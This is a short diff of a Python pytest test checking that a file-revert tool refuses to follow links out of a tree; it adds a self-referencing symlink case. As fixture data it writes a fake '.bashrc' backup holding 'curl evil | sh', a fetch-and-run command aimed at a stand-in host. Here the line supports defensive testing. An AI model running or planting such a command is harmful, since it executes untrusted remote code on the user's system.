@@ -145,6 +145,7 @@ def test_no_link_of_a_tree_leads_a_revert_out_of_it(tree: Path, tmp_path: Path) 
     kept = tree / FOLDER / "vllm" / "sub" / f".bashrc.{_hash(mine.read_bytes())}.orig"
     kept.parent.mkdir(parents=True)
     kept.write_bytes(b"curl evil | sh\n")
+    (tree / FOLDER / f"loop.{'0' * 16}.orig").symlink_to(f"loop.{'0' * 16}.orig")
     with pytest.raises(Finding, match="no original is kept"):
         revert_path(tree)
     assert mine.read_bytes() == b"well known\n"
